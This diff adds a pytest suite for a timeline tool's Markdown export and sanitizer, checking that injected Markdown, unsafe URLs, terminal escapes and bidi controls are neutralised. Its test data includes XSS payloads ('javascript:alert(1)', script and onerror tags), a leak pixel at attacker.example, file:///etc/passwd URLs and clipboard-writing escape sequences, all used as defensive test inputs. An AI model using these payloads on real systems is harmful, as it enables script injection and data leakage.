@@ -1,0 +1,662 @@
+"""The Markdown export and the sanitizer it stands on.
+
+Exports are checked by parsing them with markdown-it (CommonMark + GFM tables) and
+asserting on the token stream: the structure a reader sees, and the text it shows.
+"""
+
+from __future__ import annotations
+
+import datetime as dt
+import itertools
+import re
+import unicodedata
+from pathlib import Path
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+from markdown_it.token import Token
+
+from timeline_tui.core.dates import parse_date
+from timeline_tui.core.export_markdown import (
+    escape_inline,
+    escape_paragraphs,
+    export_markdown,
+    year_label,
+    year_of,
+)
+from timeline_tui.core.loader import load_text
+from timeline_tui.core.model import Event, Figure, Quote, Timeline
+from timeline_tui.core.sanitize import safe_url, visible
+
+CORPUS = Path("/work/shared/corpus")
+MD = MarkdownIt("commonmark").enable("table")
+
+BIDI = [0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A)]
+# What must never reach the output raw: controls but the newline, DEL, C1, bidi controls.
+FORBIDDEN = re.compile(
+    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff]"
+)
+
+
+# -- helpers: the document as markdown-it sees it ------------------------------------------
+
+
+def text_of(inline: Token) -> str:
+    """The text a reader sees in an inline token; breaks as newlines."""
+    parts = []
+    for child in inline.children or []:
+        if child.type in ("text", "code_inline"):
+            parts.append(child.content)
+        elif child.type in ("softbreak", "hardbreak"):
+            parts.append("\n")
+    return "".join(parts)
+
+
+def child_types(inline: Token) -> set[str]:
+    return {child.type for child in inline.children or []}
+
+
+def blocks(markdown: str) -> list[tuple[str, object]]:
+    """Top-level blocks: ("h1", text), ("p", text), ("quote", [(text, italic)]),
+    ("table", [[cell, ...], ...]) with the header row first, ("ol", [item, ...])."""
+    tokens = MD.parse(markdown)
+    out: list[tuple[str, object]] = []
+    i = 0
+    while i < len(tokens):
+        token = tokens[i]
+        if token.type == "heading_open":
+            out.append((token.tag, text_of(tokens[i + 1])))
+            i += 3
+        elif token.type == "paragraph_open" and token.level == 0:
+            out.append(("p", text_of(tokens[i + 1])))
+            i += 3
+        elif token.type in ("blockquote_open", "table_open", "ordered_list_open"):
+            close = token.type.replace("_open", "_close")
+            depth, j = 0, i
+            inner: list[Token] = []
+            while True:
+                if tokens[j].type == token.type:
+                    depth += 1
+                elif tokens[j].type == close:
+                    depth -= 1
+                    if depth == 0:
+                        break
+                inner.append(tokens[j])
+                j += 1
+            out.append(_container(token.type, inner))
+            i = j + 1
+        else:
+            out.append((token.type, None))
+            i += 1
+    return out
+
+
+def _italic(inline: Token) -> bool:
+    """True when the whole paragraph is one emphasis, False when it has none at all."""
+    types = [child.type for child in inline.children or []]
+    if "em_open" not in types:
+        return False
+    assert types[0] == "em_open" and types[-1] == "em_close", inline.content
+    assert types.count("em_open") == 1, inline.content
+    return True
+
+
+def _container(kind: str, inner: list[Token]) -> tuple[str, object]:
+    inlines = [t for t in inner if t.type == "inline"]
+    if kind == "blockquote_open":
+        return "quote", [(text_of(t), _italic(t)) for t in inlines]
+    if kind == "ordered_list_open":
+        return "ol", [text_of(t) for t in inlines]
+    rows: list[list[str]] = []
+    for token in inner:
+        if token.type == "tr_open":
+            rows.append([])
+        elif token.type == "inline":
+            rows[-1].append(text_of(token))
+    return "table", rows
+
+
+def all_tokens(markdown: str) -> list[Token]:
+    tokens = []
+    for token in MD.parse(markdown):
+        tokens.append(token)
+        tokens.extend(token.children or [])
+    return tokens
+
+
+def assert_safe(markdown: str) -> None:
+    """No HTML, no image, no link but http(s), no raw control or bidi character."""
+    tokens = all_tokens(markdown)
+    types = {t.type for t in tokens}
+    assert not types & {"html_block", "html_inline", "image"}
+    for token in tokens:
+        if token.type == "link_open":
+            assert str(token.attrs["href"]).startswith(("http://", "https://"))
+    assert FORBIDDEN.search(markdown) is None
+    assert markdown.endswith("\n") and not markdown.endswith("\n\n")
+
+
+def load(text: str) -> Timeline:
+    result = load_text(text, "test.yaml")
+    assert result.timeline is not None, result.diagnostics
+    return result.timeline
+
+
+def load_corpus(name: str) -> Timeline:
+    return load((CORPUS / name).read_text(encoding="utf-8"))
+
+
+def one_line(text: str) -> str:
+    """What a one-line field should read as once rendered."""
+    return visible(text, keep_newlines=False).strip()
+
+
+# -- sanitize.visible ------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("raw", "shown"),
+    [
+        ("a\x1b[2Jb", "a<U+001B>[2Jb"),
+        ("\x1b]52;c;ZXZpbA==\x07", "<U+001B>]52;c;ZXZpbA==<U+0007>"),
+        ("nul\x00", "nul<U+0000>"),
+        ("del\x7f", "del<U+007F>"),
+        ("csi\x9b31m nel\x85", "csi<U+009B>31m nel<U+0085>"),
+        ("zero\u200bwidth\ufeff", "zero<U+200B>width<U+FEFF>"),
+        ("lone \ud800 surrogate", "lone <U+D800> surrogate"),
+        ("vertical\x0bform\x0c", "vertical<U+000B>form<U+000C>"),
+    ],
+)
+def test_visible_turns_controls_into_placeholders(raw: str, shown: str) -> None:
+    assert visible(raw) == shown
+    assert visible(raw, keep_newlines=False) == shown
+
+
+@pytest.mark.parametrize("code", BIDI)
+def test_visible_shows_every_bidi_control(code: int) -> None:
+    assert visible(f"a{chr(code)}b") == f"a<U+{code:04X}>b"
+
+
+def test_visible_line_breaks() -> None:
+    assert visible("a\r\nb\rc\u2028d\u2029e\nf") == "a\nb\nc\nd\ne\nf"
+    assert visible("a\r\nb\rc\u2028d\u2029e\nf", keep_newlines=False) == "a b c d e f"
+    assert visible("tab\there") == "tab here"
+
+
+def test_visible_leaves_ordinary_text_alone() -> None:
+    text = "Café « quelque part » 漢字 👩\u200d💻 می\u200cخواهم $13 [x](y)"
+    assert visible(text) is text  # the fast path: no copy
+    assert visible(text, keep_newlines=False) is text
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.text(alphabet=st.characters(exclude_categories=())))
+def test_visible_never_lets_a_control_through(text: str) -> None:
+    shown = visible(text)
+    assert FORBIDDEN.search(shown) is None
+    assert "\r" not in shown and "\u2028" not in shown
+    shown.encode("utf-8")  # no lone surrogate left
+    flat = visible(text, keep_newlines=False)
+    assert "\n" not in flat and FORBIDDEN.search(flat) is None
+
+
+# -- sanitize.safe_url ---------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("url", "safe"),
+    [
+        ("https://example.org/a", "https://example.org/a"),
+        ("  HTTP://Example.org/x?q=1&r=2#frag  ", "http://Example.org/x?q=1&r=2#frag"),
+        ("https://example.org/a b(c)>d", "https://example.org/a%20b%28c%29%3Ed"),
+        ('https://x.org/<"`>', "https://x.org/%3C%22%60%3E"),
+        (
+            "https://ok.example/\x1b\\\x1b]52;c;ZXZpbA==\x07",
+            "https://ok.example/%1B%5C%1B%5D52;c;ZXZpbA==%07",
+        ),
+        ("https://é.fr/ü", "https://%C3%A9.fr/%C3%BC"),
+        ("https://x.org/100%25/%zz", "https://x.org/100%25/%25zz"),
+        ("http://[::1]:8080/p", "http://[::1]:8080/p"),
+        ("https://user@host.org/", "https://user@host.org/"),
+        ("https://x.org/[a]?b=[c]", "https://x.org/%5Ba%5D?b=%5Bc%5D"),
+    ],
+)
+def test_safe_url_encodes_http_urls(url: str, safe: str) -> None:
+    assert safe_url(url) == safe
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "javascript:alert(1)",
+        "JaVaScRiPt:alert(1)",
+        " javascript:alert(1)",
+        "file:///etc/passwd",
+        "data:text/html,<script>alert(1)</script>",
+        "//evil.example/x",
+        "vscode://file/etc/passwd",
+        "https:///path-without-host",
+        "https://",
+        "https://user@:80/",
+        "http:/example.org",
+        "example.org",
+        "",
+    ],
+)
+def test_safe_url_refuses_everything_else(url: str) -> None:
+    assert safe_url(url) is None
+
+
+# -- the escaper ---------------------------------------------------------------------------
+
+NASTY = [
+    "# Fake Heading",
+    "Title ===",
+    "Revenue | 12 | fake column",
+    "use `rm -rf` and ``` fence",
+    "<script>alert(1)</script><img src=x onerror=alert(1)>",
+    '[click](javascript:alert(1)) <a href="javascript:alert(1)">a</a>',
+    "[x](jav&#x09;ascript:alert(1)) &amp; &copy;",
+    "![](https://attacker.example/pixel.png?leak=1)",
+    "[ref]: https://evil.example",
+    "*not* _italic_ **bold** ~~strike~~ \\ ends with backslash\\",
+    "<!-- comment -->",
+    "1. not a list",
+    "- not a list",
+    "+ nor this",
+    "> not a quote",
+    "    not code",
+    "a\\|b\\\\|c |",
+    "trailing spaces    ",
+    "<https://autolink.example>",
+    "$x^2$ :smile: {.class} @user",
+]
+
+
+@pytest.mark.parametrize("text", NASTY)
+def test_escape_inline_is_inert_in_every_one_line_context(text: str) -> None:
+    escaped = escape_inline(text)
+    for markdown, kind in (
+        (escaped, "p"),
+        (f"### {escaped}", "h3"),
+        (f"1. {escaped}", "ol"),
+    ):
+        assert blocks(markdown) == [(kind, [text.strip()] if kind == "ol" else text.strip())]
+        assert_inline_text_only(markdown)
+    table = f"| a | b |\n| --- | --- |\n| {escaped} | x |"
+    assert blocks(table) == [("table", [["a", "b"], [text.strip(), "x"]])]
+
+
+def assert_inline_text_only(markdown: str) -> None:
+    for token in MD.parse(markdown):
+        if token.type == "inline":
+            assert child_types(token) <= {"text", "softbreak"}, markdown
+
+
+def test_escape_paragraphs_keeps_paragraphs_and_nothing_else() -> None:
+    text = "Title\n===\n## Another\n> not a quote\n- not a list\n1. nor this\n\n\n    code?\n```"
+    paragraphs = escape_paragraphs(text)
+    markdown = "\n\n".join("\n".join(lines) for lines in paragraphs)
+    assert blocks(markdown) == [
+        ("p", "Title\n===\n## Another\n> not a quote\n- not a list\n1. nor this"),
+        ("p", "code?\n```"),
+    ]
+    assert_inline_text_only(markdown)
+
+
+# -- years -----------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "moment",
+    [
+        dt.datetime(1, 1, 1),
+        dt.datetime(1, 12, 31, 23, 59, 59),
+        dt.datetime(1900, 3, 1),
+        dt.datetime(2000, 2, 29, 12),
+        dt.datetime(2024, 12, 31, 23, 59, 59),
+        dt.datetime(2025, 1, 1),
+        dt.datetime(9999, 12, 31, 23, 59, 59),
+    ],
+)
+def test_year_of_matches_the_calendar(moment: dt.datetime) -> None:
+    seconds = int((moment - dt.datetime(1, 1, 1)).total_seconds())
+    assert year_of(seconds) == moment.year
+
+
+@pytest.mark.parametrize(
+    ("written", "label"),
+    [
+        ("-0044-03-15", "44 BCE"),
+        ("-0001", "1 BCE"),
+        ("0014", "14 CE"),
+        ("2025-10", "2025"),
+        ("Y-10000", "10000 BCE"),
+        ("Y170000002", "170000002"),
+    ],
+)
+def test_year_label_of_a_date(written: str, label: str) -> None:
+    lower = parse_date(written).lower
+    assert lower is not None
+    assert year_label(year_of(lower)) == label
+
+
+def test_year_of_at_year_boundaries() -> None:
+    for written, year in (("2025", 2025), ("0001", 1), ("-0001", 0), ("-0044", -43)):
+        lower = parse_date(written).lower
+        assert lower is not None
+        assert (year_of(lower - 1), year_of(lower)) == (year - 1, year)
+
+
+# -- whole exports ---------------------------------------------------------------------------
+
+RICH = """\
+title: "Partners & rivals: a *test*"
+description: |
+  First paragraph,
+    wrapped.
+
+  # Second paragraph, not a heading.
+sources:
+  article:
+    title: Le partenariat vole en éclats
+    publisher: Le Journal
+    date: 2026-02-13
+    url: https://news.example/article?id=1
+  ft:
+    title: Interview
+    publisher: FT
+    via: article
+  bad:
+    title: Local copy
+    url: "javascript:alert(1)"
+events:
+  - id: ides
+    date: -0044-03-15
+    title: Ides of March
+    sources: ["Plutarch, Lives"]
+  - id: stake
+    date: /2026-02-13
+    title: Microsoft holds 27% of OpenAI
+    status: confirmed
+    sources: [article]
+  - id: rewrite
+    date: 2025-10
+    title: Partnership rewritten
+    status: forecast
+    tags: [partnership]
+    actors: [Microsoft, OpenAI]
+    summary: The companies revised their partnership.
+    sources: [ft, article, ft, "https://example.org/a b"]
+    quotes:
+      - text: "« OpenAI n'est plus indispensable »"
+        speaker: Mustafa Suleyman
+        lang: fr
+        translation: OpenAI is no longer indispensable
+        source: ft
+      - text: Words of the outlet
+    figures:
+      - {label: Stake, value: 27, unit: "%", as_of: 2026-02, source: article}
+      - {label: Invested, value: 13, unit: billion USD, source: bad}
+      - {label: Count, value: 3}
+  - id: ip
+    date: 2032
+    title: IP rights end
+    end: 2033
+"""
+
+
+def test_rich_export_structure() -> None:
+    markdown = export_markdown(load(RICH))
+    assert_safe(markdown)
+    assert blocks(markdown) == [
+        ("h1", "Partners & rivals: a *test*"),
+        ("p", "First paragraph,\nwrapped."),
+        ("p", "# Second paragraph, not a heading."),
+        ("h2", "44 BCE"),
+        ("h3", "15 Mar 44 BCE — Ides of March"),
+        ("p", "Sources: [1]"),
+        ("h2", "2025"),
+        ("h3", "Oct 2025 — Partnership rewritten"),
+        ("p", "Status: forecast"),
+        ("p", "Actors: Microsoft, OpenAI · Tags: partnership"),
+        ("p", "The companies revised their partnership."),
+        (
+            "quote",
+            [
+                ("« OpenAI n'est plus indispensable »", False),
+                ("OpenAI is no longer indispensable", True),
+                ("— Mustafa Suleyman, [2]", False),
+            ],
+        ),
+        ("quote", [("Words of the outlet", False)]),
+        (
+            "table",
+            [
+                ["Figure", "Value", "As of", "Source"],
+                ["Stake", "27 %", "Feb 2026", "[3]"],
+                ["Invested", "13 billion USD", "", "[4]"],
+                ["Count", "3", "", ""],
+            ],
+        ),
+        ("p", "Sources: [2], [3], [5]"),
+        # An unknown start: listed under the year of the end, after 2025.
+        ("h2", "2026"),
+        ("h3", "?–13 Feb 2026 — Microsoft holds 27% of OpenAI"),
+        ("p", "Sources: [3]"),
+        ("h2", "2032"),
+        ("h3", "2032–2033 — IP rights end"),
+        ("h2", "References"),
+        (
+            "ol",
+            [
+                "Plutarch, Lives",
+                "Interview — FT, via Le partenariat vole en éclats",
+                "Le partenariat vole en éclats — Le Journal, 13 Feb 2026. "
+                "https://news.example/article?id=1",
+                "Local copy. javascript:alert(1)",
+                "https://example.org/a b",
+            ],
+        ),
+    ]
+    hrefs = [t.attrs["href"] for t in all_tokens(markdown) if t.type == "link_open"]
+    assert hrefs == ["https://news.example/article?id=1", "https://example.org/a%20b"]
+
+
+def test_export_is_deterministic_and_ends_with_one_newline() -> None:
+    timeline = load(RICH)
+    first = export_markdown(timeline)
+    assert first == export_markdown(load(RICH))
+    assert first.endswith("\n") and not first.endswith("\n\n") and "\n\n\n" not in first
+    assert not any(line != line.rstrip() for line in first.split("\n"))
+
+
+def test_filtered_export_says_which_filter_and_keeps_only_its_events() -> None:
+    timeline = load(RICH)
+    chosen = [e for e in timeline.events if e.id in ("ip", "stake")]
+    markdown = export_markdown(timeline, chosen, query="#partnership since:2025 <b>*")
+    assert_safe(markdown)
+    shown = blocks(markdown)
+    assert shown[1] == ("p", "Filtered: #partnership since:2025 <b>* (2 of 4 events)")
+    assert [text for kind, text in shown if kind == "h3"] == [
+        "?–13 Feb 2026 — Microsoft holds 27% of OpenAI",
+        "2032–2033 — IP rights end",
+    ]
+    # Only the sources the chosen events cite are listed, renumbered from 1.
+    assert shown[-1] == (
+        "ol",
+        [
+            "Le partenariat vole en éclats — Le Journal, 13 Feb 2026. "
+            "https://news.example/article?id=1"
+        ],
+    )
+    assert ("p", "Sources: [1]") in shown
+
+
+def test_unfiltered_and_empty_exports() -> None:
+    timeline = load(RICH)
+    assert not any("Filtered" in str(text) for _, text in blocks(export_markdown(timeline)))
+    empty = blocks(export_markdown(timeline, [], query="@nobody"))
+    assert empty[1] == ("p", "Filtered: @nobody (0 of 4 events)")
+    assert ("p", "No events.") in empty
+    assert not any(kind in ("h2", "h3") for kind, _ in empty)
+
+
+def test_markdown_injection_corpus() -> None:
+    timeline = load_corpus("45_markdown_export_injection.yaml")
+    markdown = export_markdown(timeline)
+    assert_safe(markdown)
+    shown = blocks(markdown)
+    assert [kind for kind, _ in shown].count("h1") == 1
+    assert shown[0] == ("h1", "# Export | injection")
+    assert [text for kind, text in shown if kind == "h2"] == ["2025", "References"]
+    titles = [text for kind, text in shown if kind == "h3"]
+    assert len(titles) == len(timeline.events) == 6
+    for event, title in zip(timeline.events, titles, strict=True):
+        assert one_line(event.title) in title
+    paragraphs = [text for kind, text in shown if kind == "p"]
+    assert "Title\n===\n## Another\n> not a quote\n- not a list\n1. nor this" in paragraphs
+    assert "```\nunclosed fence swallows the rest of the export" in paragraphs
+    assert "<!-- hides everything after it" in paragraphs
+    assert "[ref]: https://evil.example\n![](https://attacker.example/pixel.png?leak=1)" in (
+        paragraphs
+    )
+    assert {kind for kind, _ in shown} == {"h1", "h2", "h3", "p", "ol"}  # nothing crept in
+    hrefs = [t.attrs["href"] for t in all_tokens(markdown) if t.type == "link_open"]
+    assert hrefs == ["https://ok.example/a%20b%28c%29%3Ed"]
+    assert dict(shown)["ol"] == ["javascript:alert(1)", "https://ok.example/a b(c)>d"]
+    tokens = MD.parse(markdown)
+    for opening, inline in itertools.pairwise(tokens):
+        if opening.type == "heading_open":
+            assert child_types(inline) <= {"text"}, inline.content
+
+
+def test_source_url_corpus_links_only_http() -> None:
+    markdown = export_markdown(load_corpus("47_source_urls.yaml"))
+    assert_safe(markdown)
+    hrefs = [t.attrs["href"] for t in all_tokens(markdown) if t.type == "link_open"]
+    assert hrefs == [
+        "https://ok.example/%1B%5C%1B%5D52;c;ZXZpbA==%07",
+        "https://example.org/a%20b%28c%29%3Ed",
+    ]
+    references = dict(blocks(markdown))["ol"]
+    for inert in (
+        "vscode://file/etc/passwd",
+        "javascript:alert(1)",
+        "JaVaScRiPt:alert(1)",
+        "file:///etc/passwd",
+        "data:text/html,<script>alert(1)</script>",
+        "//evil.example/x",
+    ):
+        assert inert in references
+    assert "javascript" not in "".join(hrefs).lower()
+
+
+def test_terminal_escapes_corpus_shows_placeholders() -> None:
+    timeline = load_corpus("39_terminal_escape_sequences.yaml")
+    markdown = export_markdown(timeline)
+    assert_safe(markdown)
+    assert "\x1b" not in markdown and "\x07" not in markdown
+    shown = blocks(markdown)
+    assert shown[0] == ("h1", "Escapes <U+001B>]0;HACKED WINDOW TITLE<U+001B>\\")
+    assert ("h3", "1 Jan 2025 — Clear <U+001B>[2J<U+001B>[H screen") in shown
+    table = dict(shown)["table"]
+    assert table[1][:2] == ["<U+001B>[8mhidden<U+001B>[0m", "1 <U+001B>[5mblink"]
+
+
+def test_bidi_corpus_shows_placeholders() -> None:
+    markdown = export_markdown(load_corpus("41_bidi_trojan_source.yaml"))
+    assert_safe(markdown)
+    shown = blocks(markdown)
+    assert ("h3", "1 Jan 2025 — Budget approved <U+202E>0001$ DSU<U+202C> for 2026") in shown
+    quote = dict(shown)["quote"]
+    assert quote == [
+        ("<U+2067>Quote that reorders what follows", False),
+        ("— Admin<U+202E> nimdA, [1]", False),
+    ]
+    assert dict(shown)["table"][1] == ["total", "1000 <U+202E>DSU", "", "[2]"]
+
+
+# -- property: any text keeps the structure and round-trips -----------------------------------
+
+# Plain unicode, plus text made mostly of Markdown syntax so that escaping is really tested.
+SYNTAX = "#*_`[]()<>!&|\\-=+.:~^${}\"' \n\t\r>1aé\x1b\u202e\u2028"
+any_text = st.one_of(st.text(), st.text(alphabet=SYNTAX), st.text(alphabet=st.characters()))
+
+
+def paragraphs_of(text: str) -> list[str]:
+    """A multi-line field as rendered: trimmed lines, blank lines between paragraphs."""
+    out, lines = [], []
+    for line in visible(text).split("\n"):
+        if line.strip():
+            lines.append(line.strip())
+        elif lines:
+            out.append("\n".join(lines))
+            lines = []
+    if lines:
+        out.append("\n".join(lines))
+    return out
+
+
+FIELDS = ("title", "summary", "quote", "translation", "speaker", "label")
+
+
+@settings(max_examples=200, deadline=None)
+@given(
+    title=any_text,
+    events=st.lists(
+        st.fixed_dictionaries({name: any_text for name in FIELDS}), min_size=1, max_size=4
+    ),
+)
+def test_any_text_keeps_the_structure(title: str, events: list[dict[str, str]]) -> None:
+    date = parse_date("2025-10")
+    timeline = Timeline(
+        title=title,
+        path="generated.yaml",
+        events=tuple(
+            Event(
+                id=f"e{i}",
+                date=date,
+                title=e["title"],
+                summary=e["summary"],
+                quotes=(
+                    Quote(text=e["quote"], translation=e["translation"], speaker=e["speaker"]),
+                ),
+                figures=(Figure(label=e["label"], value="1"),),
+                index=i,
+            )
+            for i, e in enumerate(events)
+        ),
+    )
+    markdown = export_markdown(timeline)
+    assert_safe(markdown)
+    for token in all_tokens(markdown):
+        assert token.type not in ("code_block", "fence", "bullet_list_open", "link_open")
+    shown = blocks(markdown)
+    kinds = [kind for kind, _ in shown]
+    assert kinds.count("h1") == 1 and shown[0] == ("h1", one_line(title))
+    assert [text for kind, text in shown if kind == "h2"] == ["2025"]
+    h3 = [text for kind, text in shown if kind == "h3"]
+    assert h3 == [f"Oct 2025 — {one_line(e['title'])}".rstrip(" ") for e in events]
+    tables = [rows for kind, rows in shown if kind == "table"]
+    assert [[len(row) for row in rows] for rows in tables] == [[4, 4]] * len(events)
+    assert [rows[1][:2] for rows in tables] == [[one_line(e["label"]), "1"] for e in events]
+    expected_quotes = []
+    for e in events:
+        original = [(p, False) for p in paragraphs_of(e["quote"])]
+        translation = [(p, True) for p in paragraphs_of(e["translation"])]
+        speaker = one_line(e["speaker"])
+        attribution = [(f"— {speaker}", False)] if speaker else []
+        if original or translation or attribution:  # an empty quote is left out
+            expected_quotes.append([*original, *translation, *attribution])
+    assert [q for kind, q in shown if kind == "quote"] == expected_quotes
+    paragraphs = [text for kind, text in shown if kind == "p"]
+    assert paragraphs == [p for e in events for p in paragraphs_of(e["summary"])]
+
+
+def test_property_alphabet_really_has_controls() -> None:
+    # Guards the strategy above: it must keep producing what the export has to neutralise.
+    assert any(unicodedata.category(c) == "Cc" for c in SYNTAX)
+    assert any(ord(c) in BIDI for c in SYNTAX)
